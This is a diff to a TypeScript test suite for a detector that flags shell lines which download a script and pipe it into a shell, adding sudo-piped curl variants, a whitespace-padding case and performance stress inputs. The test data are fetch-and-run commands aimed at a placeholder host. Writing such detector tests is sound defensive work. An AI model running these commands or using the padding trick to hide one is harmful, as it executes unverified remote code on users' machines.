@@ -6,6 +6,8 @@ const RUN: readonly string[] = [
   'curl -s https://any.example/s.sh | bash',
   'curl https://any.example/s.sh | sudo VERSION=1 sh',
   'curl https://any.example/s.sh | /usr/bin/env bash -s -- --quiet',
+  'curl -fsSL https://any.example/s.sh | sudo -E bash -',
+  'curl https://any.example/s.sh | sudo -n -u root /usr/bin/env -i sh',
   'curl https://any.example/s.sh | tee log | sh',
   'wget -qO- https://any.example/s.py | python3 -',
   'bash <(curl -s https://any.example/s.sh)',
@@ -37,6 +39,12 @@ suite('a line that does not', () => {
   for (const line of OTHER) test(line, () => assert.ok(!runsWhatItFetches(line)));
 });
 
+test('a line that is too long to be read runs what it fetches, whatever it ends with', () => {
+  const blanks = ' '.repeat(8_000);
+  assert.ok(runsWhatItFetches(`curl https://any.example/s.sh ${blanks}| sh`));
+  assert.ok(!runsWhatItFetches(`echo ${blanks}| sh`));
+});
+
 test('a hostile line costs no time', () => {
   const started = performance.now();
   for (const piece of [
@@ -48,9 +56,13 @@ test('a hostile line costs no time', () => {
     'curl $(curl ',
     'curl -o ',
     'curl sh -a ',
+    '|sudo -a ',
+    '|env -a -b ',
+    '|sudo -u a -u b ',
+    '|sudo -u -u ',
     'curl A=a ',
     '> a; a/',
   ])
-    runsWhatItFetches(`curl ${piece.repeat(20_000)}`);
+    runsWhatItFetches(`curl ${piece.repeat(8_000)}`.slice(0, 8_000));
   assert.ok(performance.now() - started < 2_000);
 });
